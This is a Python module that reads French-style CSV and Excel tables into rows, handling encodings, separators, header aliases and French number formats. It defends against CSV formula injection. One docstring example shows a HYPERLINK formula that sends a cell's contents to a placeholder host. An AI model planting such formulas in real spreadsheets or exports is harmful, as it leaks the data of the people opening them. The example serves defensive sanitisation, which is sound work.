"""Read the tables people write: CSV from French Excel, or XLSX, into rows with line numbers.

A CSV file may come with ``,`` or ``;`` separators, in UTF-8 (with or without BOM) or in
cp1252 (Windows' Western European encoding): both are detected, no option needed. Header
names are matched to canonical column names through aliases (French or English, any case,
accents or not, trailing spaces). Cells are stripped; empty cells are missing values.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from toiles.errors import Problem
from toiles.models.vocab import fold

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

_SEPARATORS = (";", ",", "\t")
_SPACES = re.compile(r"[\s\u00a0\u202f\u2009']")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
_THOUSANDS = re.compile(r"^[+-]?\d{1,3}([.,]\d{3})+$")


@dataclass
class Row:
    """One data row: the line a spreadsheet shows for it, and its cells by canonical column."""

    line: int
    values: dict[str, str | None]


@dataclass
class Table:
    """A table read from a file, with the problems met while reading it."""

    path: str
    columns: list[str] = field(default_factory=list)
    headers: dict[str, str] = field(default_factory=dict)
    rows: list[Row] = field(default_factory=list)
    problems: list[Problem] = field(default_factory=list)

    def error(
        self, line: int | None, column: str | None, message: str, value: str | None = None
    ) -> None:
        """Record an error of this table."""
        self.problems.append(Problem(self.path, line, column, message, value))

    def header(self, column: str) -> str:
        """The column's name as the file writes it (for messages)."""
        return self.headers.get(column, column)

    def warning(
        self, line: int | None, column: str | None, message: str, value: str | None = None
    ) -> None:
        """Record a warning of this table."""
        self.problems.append(Problem(self.path, line, column, message, value, "warning"))


def header_key(name: str) -> str:
    """Fold a header to a matching key: ``" Quantité (MWh) "`` -> ``"quantite_(mwh)"``.

    Examples
    --------
    >>> header_key("  Code Sandre de l'ouvrage ")
    'code_sandre_de_l_ouvrage'
    """
    return re.sub(r"[\s\-'’]+", "_", fold(name)).strip("_")


def decode(data: bytes) -> tuple[str, str]:
    r"""Decode file bytes, detecting UTF-8 (with or without BOM) and cp1252.

    Returns
    -------
    tuple
        The text and the name of the encoding found.

    Raises
    ------
    UnicodeDecodeError
        When the bytes are neither UTF-8 nor cp1252.

    Examples
    --------
    >>> decode("quantité".encode("cp1252"))
    ('quantité', 'cp1252')
    >>> decode(b"\xef\xbb\xbfnom")
    ('nom', 'utf-8-sig')
    """
    if data.startswith(b"\xef\xbb\xbf"):
        return data[3:].decode("utf-8"), "utf-8-sig"
    try:
        return data.decode("utf-8"), "utf-8"
    except UnicodeDecodeError:
        return data.decode("cp1252"), "cp1252"


def detect_separator(header_line: str) -> str:
    """Pick the separator of a CSV file from its header line (quoted text ignored).

    Examples
    --------
    >>> detect_separator('nom;type;"quantité, en MWh"')
    ';'
    """
    unquoted = re.sub(r'"[^"]*"', "", header_line)
    counts = {sep: unquoted.count(sep) for sep in _SEPARATORS}
    best = max(counts, key=lambda sep: counts[sep])
    return best if counts[best] > 0 else ","


def parse_number(text: str) -> float:
    r"""Read a number written the French way or the English way.

    Decimal commas, spaces (including Excel's no-break spaces) and dots or commas as
    thousands separators are understood.

    Raises
    ------
    ValueError
        With a French message when the text is not a number.

    Examples
    --------
    >>> parse_number("1 234,5")
    1234.5
    >>> parse_number("1\u00a0234\u00a0567")
    1234567.0
    >>> parse_number("1.234.567,25")
    1234567.25
    >>> parse_number("2,5e3")
    2500.0
    """
    compact = _SPACES.sub("", text)
    if _THOUSANDS.match(compact) and compact.count(",") + compact.count(".") > 1:
        compact = compact.replace(",", "").replace(".", "")
    elif "," in compact and "." in compact:
        decimal = "," if compact.rfind(",") > compact.rfind(".") else "."
        thousands = "." if decimal == "," else ","
        compact = compact.replace(thousands, "").replace(decimal, ".")
    else:
        compact = compact.replace(",", ".")
    if not _NUMBER.match(compact):
        msg = "nombre attendu"
        raise ValueError(msg)
    return float(compact)


def parse_int(text: str) -> int:
    """Read a whole number (``"1 200"``, ``"1200,0"``).

    Raises
    ------
    ValueError
        When the text is not a whole number.
    """
    value = parse_number(text)
    if not value.is_integer():
        msg = "nombre entier attendu"
        raise ValueError(msg)
    return int(value)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection)."""


def _formula_like(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def neutralise_formula(text: str) -> str:
    """Make a text cell that a spreadsheet would run as a formula plain text again.

    A leading apostrophe is what Excel and LibreOffice read as "this is text"; a text that
    already starts with apostrophes before such a character gets one more, so that
    :func:`restore_formula` gives back exactly the original.

    Examples
    --------
    >>> print(neutralise_formula('=HYPERLINK("http://x.example?"&A1,"clic")'))
    '=HYPERLINK("http://x.example?"&A1,"clic")
    >>> neutralise_formula("Béthune"), neutralise_formula("-12,5")
    ('Béthune', "'-12,5")
    >>> restore_formula(neutralise_formula("'=x")) == "'=x"
    True

    References
    ----------
    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
    """
    return "'" + text if _formula_like(text) else text


def restore_formula(text: str) -> str:
    """Undo :func:`neutralise_formula` (a CSV written by toiles reads back the same).

    Examples
    --------
    >>> restore_formula("'=1+1"), restore_formula("'Béthune")
    ('=1+1', "'Béthune")
    """
    return text[1:] if text.startswith("'") and _formula_like(text[1:]) else text


def _clean(cell: object) -> str | None:
    if cell is None:
        return None
    if isinstance(cell, float) and cell.is_integer():
        text = str(int(cell))
    elif isinstance(cell, dt.datetime):
        text = cell.date().isoformat() if cell.time() == dt.time() else cell.isoformat()
    elif isinstance(cell, dt.date):
        text = cell.isoformat()
    else:
        text = str(cell)
    text = text.strip().replace("\u00a0", " ")
    return text or None


def _map_header(table: Table, header: list[object], aliases: Mapping[str, str]) -> list[str | None]:
    mapped: list[str | None] = []
    seen: set[str] = set()
    for raw in header:
        text = _clean(raw)
        if text is None:
            mapped.append(None)
            continue
        canonical = aliases.get(header_key(text))
        if canonical is None:
            table.warning(1, text, "colonne inconnue, ignorée")
        elif canonical in seen:
            table.error(1, text, f"colonne en double (déjà lue comme « {canonical} »)")
            canonical = None
        else:
            seen.add(canonical)
            table.headers[canonical] = text
        mapped.append(canonical)
    table.columns = [c for c in mapped if c is not None]
    return mapped


def _add_row(table: Table, mapped: list[str | None], line: int, cells: list[object]) -> None:
    values = [_clean(c) for c in cells]
    if all(v is None for v in values):
        return
    extra = values[len(mapped) :]
    if any(v is not None for v in extra):
        table.error(line, None, f"{len(values)} cellules pour {len(mapped)} colonnes d'en-tête")
        return
    row = {col: values[i] if i < len(values) else None for i, col in enumerate(mapped) if col}
    table.rows.append(Row(line, row))


def read_csv_text(text: str, path: str, aliases: Mapping[str, str]) -> Table:
    """Read CSV text into a table; every problem is recorded, nothing is raised."""
    table = Table(path)
    first_line = text.split("\n", 1)[0]
    reader = csv.reader(
        io.StringIO(text, newline=""), delimiter=detect_separator(first_line), strict=True
    )
    mapped: list[str | None] | None = None
    last_line = 0
    try:
        for cells in reader:
            start = last_line + 1
            last_line = reader.line_num
            if mapped is None:
                mapped = _map_header(table, list(cells), aliases)
                continue
            _add_row(table, mapped, start, [restore_formula(c) for c in cells])
    except csv.Error as exc:
        table.error(
            last_line + 1,
            None,
            f"ligne CSV illisible ({exc}) : guillemet non fermé ou fichier tronqué ?",
        )
    if mapped is None:
        table.error(1, None, "fichier vide : une ligne d'en-tête est attendue")
    return table


def read_xlsx(path: Path, aliases: Mapping[str, str], *, sheet: str | None = None) -> Table:
    """Read the first sheet (or the named one) of an Excel workbook into a table."""
    import openpyxl  # noqa: PLC0415  # heavy; only for Excel input

    table = Table(str(path))
    try:
        workbook = openpyxl.load_workbook(path, read_only=True, data_only=True)
    except Exception as exc:  # noqa: BLE001  # openpyxl raises many unrelated types
        table.error(None, None, f"classeur Excel illisible ({type(exc).__name__}: {exc})")
        return table
    try:
        worksheet = (
            workbook[sheet] if sheet and sheet in workbook.sheetnames else workbook.worksheets[0]
        )
        mapped: list[str | None] | None = None
        for line, cells in enumerate(worksheet.iter_rows(values_only=True), start=1):
            if mapped is None:
                if all(_clean(c) is None for c in cells):
                    continue
                mapped = _map_header(table, list(cells), aliases)
                continue
            _add_row(table, mapped, line, list(cells))
        if mapped is None:
            table.error(1, None, "feuille vide : une ligne d'en-tête est attendue")
    finally:
        workbook.close()
    return table


def read_table(path: Path, aliases: Mapping[str, str], *, sheet: str | None = None) -> Table:
    """Read a CSV or XLSX file into a table of canonical columns.

    Problems (unreadable file, bad encoding, unbalanced quotes, ragged rows, unknown or
    duplicate columns) are recorded in :attr:`Table.problems`; nothing is raised.
    """
    if path.suffix.lower() in {".xlsx", ".xlsm"}:
        return read_xlsx(path, aliases, sheet=sheet)
    try:
        data = path.read_bytes()
    except OSError as exc:
        table = Table(str(path))
        table.error(None, None, f"fichier illisible : {exc.strerror or exc}")
        return table
    try:
        text, _encoding = decode(data)
    except UnicodeDecodeError as exc:
        table = Table(str(path))
        line = data[: exc.start].count(b"\n") + 1
        table.error(line, None, "encodage illisible : UTF-8 ou Windows-1252 (cp1252) attendu")
        return table
    return read_csv_text(text, str(path), aliases)
